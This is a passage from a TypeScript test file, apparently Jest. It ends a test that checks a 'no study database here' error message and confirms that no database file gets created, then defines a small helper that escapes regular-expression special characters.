      `${db}: no study database here; create one with init`,
    );
    expect(fs.existsSync(db)).toBe(false);
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
